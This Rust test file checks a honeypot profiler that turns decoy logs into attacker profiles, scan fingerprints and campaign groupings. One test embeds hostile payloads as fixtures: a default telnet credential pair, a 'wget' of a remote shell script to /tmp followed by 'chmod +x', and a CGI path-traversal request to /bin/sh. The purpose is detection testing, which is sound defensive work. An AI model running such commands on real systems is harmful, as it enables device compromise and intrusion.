//! The incremental profiler against a real SQLite file.

use decnet::{
    profile::Profiler,
    row::NewLog,
    store::{Batch, Store},
};

fn rows(n: usize) -> Vec<NewLog> {
    let mut s: u64 = 0x853c49e6748fea9b;
    let mut next = move |m: u64| {
        s ^= s << 13;
        s ^= s >> 7;
        s ^= s << 17;
        s % m
    };
    let mut t: i64 = 1_795_723_674_000_000_000;
    (0..n)
        .map(|i| {
            // Mostly forward in time, sometimes a little backwards (another writer's clock).
            t += next(3_000_000_000) as i64 - 200_000_000;
            let ip = format!("10.1.{}.{}", next(4), next(50));
            let (et, fields) = match next(9) {
                // Answers, flows and payloads: what the profiler reads beyond the probes.
                2 => (
                    "probe_outcome",
                    format!(
                        r#"{{"dst_port":{},"outcome":"{}","rtt_ns":{}}}"#,
                        next(1000),
                        ["open", "closed", "filtered"][next(3) as usize],
                        next(5_000_000)
                    ),
                ),
                3 => (
                    "tcp_flow",
                    format!(
                        r#"{{"dst_port":{},"connect_scan":{},"attacker_bytes":{},"retransmits":{}}}"#,
                        next(1000),
                        next(2) == 0,
                        next(10_000),
                        next(3)
                    ),
                ),
                4 => (
                    "tcp_payload",
                    format!(
                        r#"{{"dst_port":80,"payload_len":40,"payload_b64":"{}"}}"#,
                        ["R0VUIC8gSFRUUC8xLjENClVzZXItQWdlbnQ6IGN1cmwvOC4wDQoNCg==",
                         "U1NILTIuMC1Hby0xLjINCg=="][next(2) as usize]
                    ),
                ),
                0 => (
                    "tcp_probe",
                    format!(
                        r#"{{"dst_port":{},"flags":"FPU","probe":"xmas","window":1024}}"#,
                        next(1000)
                    ),
                ),
                1 => (
                    "udp_probe",
                    format!(r#"{{"dst_port":{},"payload_len":10}}"#, next(200)),
                ),
                _ => (
                    "tcp_syn",
                    format!(
                        r#"{{"dst_port":{},"flags":"S","window":1024,"ttl":{},"options":"M1460"}}"#,
                        next(1000),
                        40 + next(10)
                    ),
                ),
            };
            NewLog {
                ts: decnet::timefmt::rfc3339_ns(t),
                decky: format!("decky-{}", next(3)),
                service: format!("svc{}", i % 5),
                event_type: et.into(),
                attacker_ip: ip,
                fields,
                trace_id: None,
                span_id: None,
                sensor: Default::default(),
            }
        })
        .collect()
}

async fn store_with(dir: &std::path::Path, logs: &[NewLog]) -> Store {
    let store = Store::open(&dir.join("decnet.db")).await.unwrap();
    for chunk in logs.chunks(5000) {
        store
            .commit_batch_copy(&Batch {
                logs: chunk.to_vec(),
                ..Batch::default()
            })
            .await
            .unwrap();
    }
    store
}

#[tokio::test]
async fn restarts_after_random_batches_give_the_same_profiles() {
    let logs = rows(100_000);
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    let one = store_with(a.path(), &logs).await;
    let many = store_with(b.path(), &logs).await;
    assert_eq!(
        Profiler::new(one.clone()).catch_up().await.unwrap(),
        100_000
    );
    let mut done = 0;
    let mut k = 1;
    while done < 100_000 {
        // A fresh profiler each time: nothing survives but the database.
        done += Profiler::new(many.clone()).step(k).await.unwrap();
        k = k % 7 + 1;
    }
    let sa = one.all_behaviors().await.unwrap();
    let sb = many.all_behaviors().await.unwrap();
    assert_eq!(sa.len(), 200);
    assert_eq!(sa, sb, "streaming states differ after restarts");
    // Campaigns and detections too (detection bodies differ only in their wall-clock ts).
    let campaigns = one.campaigns().await.unwrap();
    assert!(
        !campaigns.is_empty(),
        "these rows are meant to form campaigns"
    );
    assert_eq!(campaigns, many.campaigns().await.unwrap());
    let strip = |d: Vec<decnet::store::DetectionRow>| {
        d.into_iter()
            .map(|d| {
                let mut v: serde_json::Value = serde_json::from_str(&d.body).unwrap();
                v["ts"] = serde_json::Value::Null;
                (d.id, d.ip, v)
            })
            .collect::<Vec<_>>()
    };
    let da = strip(one.detections_after(0, 1_000_000).await.unwrap());
    assert!(!da.is_empty());
    assert_eq!(
        da,
        strip(many.detections_after(0, 1_000_000).await.unwrap())
    );
    for ip in sa.keys() {
        assert_eq!(
            decnet::profile::load(&one, ip).await.unwrap(),
            decnet::profile::load(&many, ip).await.unwrap()
        );
    }
    // New rows are absorbed incrementally on top.
    let more = rows(600);
    for s in [&one, &many] {
        s.commit_batch_copy(&Batch {
            logs: more.clone(),
            ..Batch::default()
        })
        .await
        .unwrap();
        assert_eq!(Profiler::new(s.clone()).catch_up().await.unwrap(), 600);
    }
    assert_eq!(
        one.all_behaviors().await.unwrap(),
        many.all_behaviors().await.unwrap()
    );
}

/// In one process the profiler takes rows from the ingester's announcements on the hub.
/// Rows committed before it subscribed, a batch whose announcement it missed, and batches
/// past what the feed holds (20,000 rows) come from the database; the profiles are the
/// same as from rows read back.
#[tokio::test]
async fn rows_from_the_hub_give_the_same_profiles_as_rows_read_back() {
    let logs = rows(45_000);
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    let read_back = store_with(a.path(), &logs).await;
    Profiler::new(read_back.clone()).catch_up().await.unwrap();

    let fed = Store::open(&b.path().join("decnet.db")).await.unwrap();
    let hub = decnet::hub::Hub::default();
    // Committed and announced before the profiler listens. Announced rows come with their
    // fields parsed (as the ingester sends them) or, every third batch, without.
    let commit = |chunk: Vec<NewLog>, announce: bool, parsed: bool| {
        let (fed, hub) = (fed.clone(), hub.clone());
        async move {
            let first = fed
                .commit_batch_copy(&Batch {
                    logs: chunk.clone(),
                    ..Batch::default()
                })
                .await
                .unwrap()
                .unwrap();
            if announce && parsed {
                hub.logs_parsed(first, move || {
                    let facts = chunk.iter().map(decnet::ingest::bounty::facts).collect();
                    (chunk, facts)
                });
            } else if announce {
                hub.logs(first, move || chunk);
            }
        }
    };
    commit(logs[..700].to_vec(), true, true).await;
    let mut p = Profiler::with_hub(fed.clone(), hub.clone()).with_feed(&hub);
    let stats = p.stats();
    let mut at = 700;
    for (i, size) in [1, 499, 500, 501, 1200, 37, 3000]
        .iter()
        .cycle()
        .enumerate()
    {
        if at >= 20_000 {
            break;
        }
        let end = (at + size).min(20_000);
        // The fourth batch's announcement is missed (as after a lag).
        commit(logs[at..end].to_vec(), i != 3, i % 3 != 2).await;
        at = end;
        if i % 2 == 1 {
            p.catch_up().await.unwrap();
        }
    }
    p.catch_up().await.unwrap();
    let count = |c: &std::sync::atomic::AtomicU64| c.load(std::sync::atomic::Ordering::Relaxed);
    assert_eq!(count(&stats.rows), 20_000);
    // All but the 700 before it listened and the missed batch (501 rows) came from the hub.
    assert_eq!(count(&stats.fed), 20_000 - 700 - 501);
    // The ingester runs 25,000 rows ahead: the feed keeps the first 20,000.
    for chunk in logs[20_000..].chunks(5_000) {
        commit(chunk.to_vec(), true, true).await;
    }
    p.catch_up().await.unwrap();
    assert_eq!(count(&stats.rows), 45_000);
    assert_eq!(count(&stats.fed), 20_000 - 700 - 501 + 20_000);
    assert_eq!(
        read_back.all_behaviors().await.unwrap(),
        fed.all_behaviors().await.unwrap()
    );
    assert_eq!(
        read_back.campaigns().await.unwrap(),
        fed.campaigns().await.unwrap()
    );
    for ip in read_back.all_behaviors().await.unwrap().keys() {
        assert_eq!(
            decnet::profile::load(&read_back, ip).await.unwrap(),
            decnet::profile::load(&fed, ip).await.unwrap()
        );
    }
}

#[tokio::test]
async fn profile_fields() {
    let d = tempfile::tempdir().unwrap();
    let mk = |decky: &str, port: u16, et: &str, fields: &str, t: i64| NewLog {
        ts: decnet::timefmt::rfc3339_ns(1_795_723_674_000_000_000 + t * 100_000_000),
        decky: decky.into(),
        service: format!("tcp/{port}"),
        event_type: et.into(),
        attacker_ip: "10.9.9.9".into(),
        fields: fields.replace("PORT", &port.to_string()),
        trace_id: None,
        span_id: None,
        sensor: Default::default(),
    };
    let mut logs = vec![];
    for p in 1..=20u16 {
        logs.push(mk(
            "web",
            p,
            "tcp_syn",
            r#"{"dst_port":PORT,"flags":"S","window":1024,"ttl":52,"options":"M1460","df":false}"#,
            p as i64,
        ));
    }
    logs.push(mk(
        "db",
        5432,
        "tcp_probe",
        r#"{"dst_port":PORT,"flags":"FPU","probe":"xmas","window":1024}"#,
        30,
    ));
    let store = store_with(d.path(), &logs).await;
    Profiler::new(store.clone()).catch_up().await.unwrap();
    let p = decnet::profile::load(&store, "10.9.9.9")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(p["event_count"], 21);
    assert_eq!(p["deckies"], serde_json::json!(["web", "db"]));
    assert_eq!(p["is_traversal"], true);
    assert_eq!(p["scan"]["kinds"], serde_json::json!(["syn", "xmas"]));
    assert_eq!(p["scan"]["pattern"], "mixed");
    assert_eq!(p["behavior"]["class"], "scanning");
    // nmap draws the TTL of its raw packets at random: they give no hop distance, and being
    // crafted, no OS guess.
    assert_eq!(p["hop_distance"], serde_json::Value::Null);
    assert_eq!(p["os_guess"], serde_json::Value::Null);
    assert_eq!(p["tcp_fingerprint"], "64:1024:M1460:");
    let timing = &p["behavior"]["timing"];
    // 19 gaps of 0.1 s and one of 1.0 s.
    assert!(
        (timing["mean_iat_s"].as_f64().unwrap() - 0.145).abs() < 1e-9,
        "{timing}"
    );
    assert_eq!(timing["median_iat_s"], 0.1);
    assert_eq!(timing["max_iat_s"], 1.0);
    assert!((timing["duration_s"].as_f64().unwrap() - 2.9).abs() < 1e-9);
}

/// A SYN as one scanner sends it: `(decky, port, seconds)`, fields of the named style.
fn syn(ip: &str, decky: &str, port: u16, t: f64, style: &str) -> NewLog {
    let fields = match style {
        // nmap -sS (SIGNATURES.md): TTL 37-59, window 1024, MSS 1460 only, no DF.
        "nmap" => format!(
            r#"{{"dst_port":{port},"flags":"S","window":1024,"ttl":{},"options":"M1460","df":false}}"#,
            40 + port % 7
        ),
        // hping3 -S: TTL 64, window 512, no options.
        "hping3" => format!(
            r#"{{"dst_port":{port},"flags":"S","window":512,"ttl":64,"options":"","df":false}}"#
        ),
        // unicornscan: TTL 255, window 4128, MSS, no DF.
        "unicornscan" => format!(
            r#"{{"dst_port":{port},"flags":"S","window":4128,"ttl":250,"options":"M1460","df":false}}"#
        ),
        // A Linux connect(): no tool signature.
        _ => format!(
            r#"{{"dst_port":{port},"flags":"S","window":64240,"ttl":62,"options":"M1460,S,T,N,W10","df":true}}"#
        ),
    };
    NewLog {
        ts: decnet::timefmt::rfc3339_ns(1_795_723_674_000_000_000 + (t * 1e9) as i64),
        decky: decky.into(),
        service: format!("tcp/{port}"),
        event_type: "tcp_syn".into(),
        attacker_ip: ip.into(),
        fields,
        trace_id: None,
        span_id: None,
        sensor: Default::default(),
    }
}

async fn profile_of(store: &Store, ip: &str) -> serde_json::Value {
    decnet::profile::load(store, ip)
        .await
        .unwrap()
        .unwrap_or_else(|| panic!("no profile for {ip}"))
}

/// Interleaves the sources' rows in time, as concurrent scanners arrive.
fn interleave(per_source: Vec<Vec<NewLog>>) -> Vec<NewLog> {
    let mut all: Vec<NewLog> = per_source.into_iter().flatten().collect();
    all.sort_by(|a, b| a.ts.cmp(&b.ts));
    all
}

#[tokio::test]
async fn three_sources_splitting_a_port_range_form_one_campaign() {
    let d = tempfile::tempdir().unwrap();
    let ips = ["10.7.0.1", "10.7.0.2", "10.7.0.3"];
    // Ports 1-3000 split in thirds, one SYN every 10 ms each, all at the same time.
    let rows = interleave(
        ips.iter()
            .enumerate()
            .map(|(k, ip)| {
                (1..=1000u16)
                    .map(|i| syn(ip, "web", k as u16 * 1000 + i, i as f64 * 0.01, "nmap"))
                    .collect()
            })
            .collect(),
    );
    let store = store_with(d.path(), &rows).await;
    let hub = decnet::hub::Hub::default();
    let mut live = hub.subscribe();
    Profiler::with_hub(store.clone(), hub)
        .catch_up()
        .await
        .unwrap();
    let campaigns = store.campaigns().await.unwrap();
    assert_eq!(campaigns.len(), 1, "{campaigns:?}");
    let (id, summary) = &campaigns[0];
    let c: serde_json::Value = serde_json::from_str(summary).unwrap();
    assert_eq!(c["members"], serde_json::json!(ips));
    assert_eq!(c["member_count"], 3);
    assert_eq!(c["tools"], serde_json::json!(["nmap"]));
    assert_eq!((&c["port_min"], &c["port_max"]), (&1.into(), &3000.into()));
    assert!(
        c["evidence"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("one port range split between sources")),
        "{c}"
    );
    for ip in ips {
        let p = profile_of(&store, ip).await;
        assert_eq!(p["campaign_id"], *id, "{ip}: {p}");
        let reasons = p["risk"]["reasons"].to_string();
        assert!(reasons.contains(&format!("campaign {id}")), "{reasons}");
    }
    // Each member was announced joining it, live and in the database.
    let mut joined = std::collections::BTreeSet::new();
    let announced: Vec<decnet::store::DetectionRow> = std::iter::from_fn(|| live.try_recv().ok())
        .filter_map(|msg| match msg {
            decnet::hub::HubMsg::Detections(ds) => Some(ds.to_vec()),
            _ => None,
        })
        .flatten()
        .collect();
    for d in announced {
        let body: serde_json::Value = serde_json::from_str(&d.body).unwrap();
        if body["changes"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("campaign"))
        {
            assert_eq!(body["campaign_id"], *id);
            joined.insert(d.ip.clone());
        }
    }
    assert_eq!(joined.len(), 3, "{joined:?}");
    let stored = store.detections_after(0, 1000).await.unwrap();
    assert!(stored.len() >= 3);
    assert!(stored.windows(2).all(|w| w[0].id < w[1].id));
}

#[tokio::test]
async fn unrelated_sources_and_a_lone_scanner_form_no_campaign() {
    let d = tempfile::tempdir().unwrap();
    let mut per_source = vec![];
    // Three tools with different fingerprints on the same decoy at the same time.
    for (ip, style) in [
        ("10.8.0.1", "nmap"),
        ("10.8.0.2", "hping3"),
        ("10.8.0.3", "unicornscan"),
    ] {
        per_source.push(
            (1..=300u16)
                .map(|p| syn(ip, "web", p, p as f64 * 0.01, style))
                .collect(),
        );
    }
    // A Linux host's own connect()s to the same ports: no tool, so never in a campaign.
    per_source.push(
        (1..=300u16)
            .map(|p| syn("10.8.0.4", "web", p, p as f64 * 0.01, "linux"))
            .collect(),
    );
    // The same nmap fingerprint, but two hours later: not together.
    per_source.push(
        (1..=300u16)
            .map(|p| syn("10.8.0.5", "web", p, 7200.0 + p as f64 * 0.01, "nmap"))
            .collect(),
    );
    // The same nmap fingerprint at the same time, but on another decoy.
    per_source.push(
        (1..=300u16)
            .map(|p| syn("10.8.0.6", "db", p, p as f64 * 0.01, "nmap"))
            .collect(),
    );
    let store = store_with(d.path(), &interleave(per_source)).await;
    Profiler::new(store.clone()).catch_up().await.unwrap();
    assert_eq!(store.campaigns().await.unwrap(), vec![]);
    for (ip, tool) in [
        ("10.8.0.1", "nmap"),
        ("10.8.0.2", "hping3"),
        ("10.8.0.3", "unicornscan"),
    ] {
        let p = profile_of(&store, ip).await;
        assert_eq!(p["tools"], serde_json::json!([tool]), "{p}");
        assert_eq!(p["campaign_id"], serde_json::Value::Null);
    }
    // The OS guess comes only from the source's own stack, and hop distance only from a
    // TTL the sender did not randomise.
    let linux = profile_of(&store, "10.8.0.4").await;
    assert_eq!(linux["os_guess"], "Linux", "{linux}");
    assert_eq!(linux["hop_distance"], 2);
    assert_eq!(linux["tools"], serde_json::json!([]));
    let hping = profile_of(&store, "10.8.0.2").await;
    assert_eq!(hping["os_guess"], serde_json::Value::Null);
    assert_eq!(hping["hop_distance"], 0);
}

#[tokio::test]
async fn commands_credentials_and_exploits_reach_the_profile() {
    use base64::Engine as _;
    let d = tempfile::tempdir().unwrap();
    let payload = |ip: &str, port: u16, text: &[u8], t: i64| NewLog {
        ts: decnet::timefmt::rfc3339_ns(1_795_723_674_000_000_000 + t * 1_000_000_000),
        decky: "web".into(),
        service: format!("tcp/{port}"),
        event_type: "tcp_payload".into(),
        attacker_ip: ip.into(),
        fields: serde_json::json!({
            "dst_port": port,
            "flags": "PA",
            "payload_len": text.len(),
            "payload_b64": base64::engine::general_purpose::STANDARD.encode(text),
        })
        .to_string(),
        trace_id: None,
        span_id: None,
        sensor: Default::default(),
    };
    let ip = "10.6.0.1";
    let logs = vec![
        payload(ip, 23, b"root\r\nxc3511\r\n", 0),
        payload(
            ip,
            23,
            b"admin\r\ncd /tmp; wget http://10.6.0.9/m.sh; chmod +x m.sh\r\n",
            1,
        ),
        payload(
            ip,
            80,
            b"GET /cgi-bin/../../../../bin/sh HTTP/1.1\r\nHost: x\r\n\r\n",
            2,
        ),
        payload(
            ip,
            80,
            b"GET /cgi-bin/../../../../bin/sh HTTP/1.1\r\n\r\n",
            3,
        ),
    ];
    let store = store_with(d.path(), &logs).await;
    Profiler::new(store.clone()).catch_up().await.unwrap();
    let p = profile_of(&store, ip).await;
    let commands: Vec<&str> = p["commands"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["command"].as_str().unwrap())
        .collect();
    // Distinct commands in first-seen order; the repeated request is counted, not listed twice.
    assert_eq!(
        commands,
        ["root", "admin", "GET /cgi-bin/../../../../bin/sh HTTP/1.1"],
        "{p}"
    );
    assert_eq!(p["command_count"], 4);
    assert_eq!(p["commands"][2]["service"], "tcp/80");
    assert_eq!(p["commands"][2]["decky"], "web");
    assert_eq!(p["credential_count"], 2);
    let reasons = p["risk"]["reasons"].to_string();
    assert!(reasons.contains("credentials"), "{reasons}");
    assert!(reasons.contains("path traversal"), "{reasons}");
    assert!(p["risk"]["score"].as_u64().unwrap() >= 50, "{}", p["risk"]);
}

/// The decoy's answers and the source's flows: open ports, a connect scan told apart from
/// a SYN scan, round trips; and none of it counted as the source's own events.
#[tokio::test]
async fn outcomes_and_flows_reach_the_profile() {
    let d = tempfile::tempdir().unwrap();
    let t0 = 1_795_723_674_000_000_000i64;
    let row = |et: &str, port: u16, t: i64, fields: String| NewLog {
        ts: decnet::timefmt::rfc3339_ns(t),
        decky: "web".into(),
        service: format!("tcp/{port}"),
        event_type: et.into(),
        attacker_ip: "10.7.7.7".into(),
        fields,
        trace_id: None,
        span_id: None,
        sensor: Default::default(),
    };
    let mut logs = vec![];
    // An OS-stack connect() scan of three ports: SYNs without scanner traits.
    for (i, port) in [22u16, 80, 8080].into_iter().enumerate() {
        let t = t0 + i as i64 * 1_000_000_000;
        logs.push(row(
            "tcp_syn",
            port,
            t,
            format!(r#"{{"dst_port":{port},"flags":"S","window":64240,"ttl":64,"options":"M1460,S,T,N,W7","df":true,"traits":[]}}"#),
        ));
        let outcome = if port == 8080 { "open" } else { "closed" };
        logs.push(row(
            "probe_outcome",
            port,
            t + 200_000,
            format!(r#"{{"dst_port":{port},"outcome":"{outcome}","rtt_ns":200000}}"#),
        ));
    }
    logs.push(row(
        "tcp_flow",
        8080,
        t0 + 2_500_000_000,
        r#"{"dst_port":8080,"end":"client_rst","connect_scan":true,"attacker_bytes":132,"decoy_bytes":60,"retransmits":0}"#.into(),
    ));
    let store = store_with(d.path(), &logs).await;
    Profiler::new(store.clone()).catch_up().await.unwrap();
    let p = profile_of(&store, "10.7.7.7").await;
    // Three probes; the answers and the flow are the decoy's side, not events of the source.
    assert_eq!(p["event_count"], 3, "{p}");
    assert_eq!(p["behavior"]["timing"]["median_iat_s"], 1.0, "{p}");
    assert_eq!(p["scan"]["kinds"], serde_json::json!(["connect"]), "{p}");
    let a = &p["answers"];
    assert_eq!(a["open_ports"], serde_json::json!([8080]));
    assert_eq!(a["open_port_count"], 1);
    assert_eq!(a["closed"], 2);
    assert_eq!(a["flows"], 1);
    assert_eq!(a["connect_flows"], 1);
    assert_eq!(a["rtt_ms"]["n"], 3);
    assert!(
        (a["rtt_ms"]["median"].as_f64().unwrap() - 0.2).abs() < 1e-9,
        "{a}"
    );
    let reasons = p["risk"]["reasons"].to_string();
    assert!(reasons.contains("Found 1 open port (8080)"), "{reasons}");
}

/// A spoofed-source storm as seen on the internet: hundreds of addresses, one or two SYNs
/// each, from three fixed packet templates, to one port on two decoys; and a few ordinary
/// hosts connecting to the same port meanwhile.
#[tokio::test]
async fn a_spoofed_storm_is_one_campaign_per_template_and_its_members_stay_low() {
    let d = tempfile::tempdir().unwrap();
    let templates = [
        // A Windows-like SYN with a fixed IP ID.
        r#""window":64240,"options":"M1460,N,W8,N,N,S","ip_id":4242,"ttl":113,"df":true"#,
        // A Linux-like SYN replaying one timestamp value (its IP ID varies).
        r#""window":29200,"options":"M1460,S,T,N,W7","ts_val":3735928559,"ttl":49,"df":true"#,
        // A bare crafted SYN.
        r#""window":1200,"options":"","ip_id":31337,"ttl":240,"df":false"#,
    ];
    let mut logs = Vec::new();
    let t0 = 1_795_723_674_000_000_000i64;
    for i in 0..600u32 {
        let ip = format!("172.{}.{}.{}", 16 + i % 8, (i / 8) % 250, 1 + i % 200);
        let tpl = templates[(i % 3) as usize];
        // One SYN, or two (a retransmission, to the other decoy for every tenth source).
        let sends = if i % 5 == 0 { 2 } else { 1 };
        for k in 0..sends {
            let decky = if k == 1 && i % 10 == 0 { "db" } else { "web" };
            let ip_id = (i * 7919 + k) % 65536;
            let t = t0 + (i as i64) * 1_000_000_000 + k as i64 * 3_000_000_000;
            let mut fields = format!(r#"{{"dst_port":443,"flags":"S",{tpl}"#);
            if !tpl.contains("ip_id") {
                fields.push_str(&format!(r#","ip_id":{ip_id}"#));
            }
            fields.push('}');
            logs.push(NewLog {
                ts: decnet::timefmt::rfc3339_ns(t),
                decky: decky.into(),
                service: "https".into(),
                event_type: "tcp_syn".into(),
                attacker_ip: ip.clone(),
                fields,
                trace_id: None,
                span_id: None,
                sensor: Default::default(),
            });
        }
    }
    // Ordinary Linux hosts meanwhile: their own timestamps and IP IDs, no shared template.
    for (n, ip) in ["198.51.100.1", "198.51.100.2", "198.51.100.3"]
        .iter()
        .enumerate()
    {
        logs.push(NewLog {
            ts: decnet::timefmt::rfc3339_ns(t0 + n as i64 * 7_000_000_000),
            decky: "web".into(),
            service: "https".into(),
            event_type: "tcp_syn".into(),
            attacker_ip: (*ip).into(),
            fields: format!(
                r#"{{"dst_port":443,"flags":"S","window":64240,"options":"M1460,S,T,N,W7","ts_val":{},"ip_id":{},"ttl":52,"df":true}}"#,
                1000 + n * 77_777,
                n * 3
            ),
            trace_id: None,
            span_id: None,
            sensor: Default::default(),
        });
    }
    logs.sort_by(|a, b| a.ts.cmp(&b.ts));
    let store = store_with(d.path(), &logs).await;
    Profiler::new(store.clone()).catch_up().await.unwrap();
    let campaigns = store.campaigns().await.unwrap();
    assert_eq!(
        campaigns.len(),
        3,
        "one campaign per template: {campaigns:?}"
    );
    let mut members = 0;
    for (_, summary) in &campaigns {
        let c: serde_json::Value = serde_json::from_str(summary).unwrap();
        assert_eq!(c["kind"], "spoofed_storm", "{c}");
        assert!(c["template"].as_str().unwrap().contains("|p443|"), "{c}");
        assert_eq!(c["member_count"], 200, "{c}");
        members += c["member_count"].as_u64().unwrap();
    }
    assert_eq!(members, 600);
    // A member that hit both decoys: no traversal, low risk, spoofable; the campaign says it.
    let p = profile_of(&store, "172.16.0.1").await;
    assert_eq!(p["deckies"], serde_json::json!(["web", "db"]), "{p}");
    assert_eq!(p["is_traversal"], false, "{p}");
    assert_eq!(p["spoofable"], true, "{p}");
    assert_eq!(p["risk"]["band"], "low", "{p}");
    assert!(p["campaign_id"].is_i64(), "{p}");
    // The ordinary hosts are in none.
    for ip in ["198.51.100.1", "198.51.100.2", "198.51.100.3"] {
        let p = profile_of(&store, ip).await;
        assert_eq!(p["campaign_id"], serde_json::Value::Null, "{p}");
    }
}
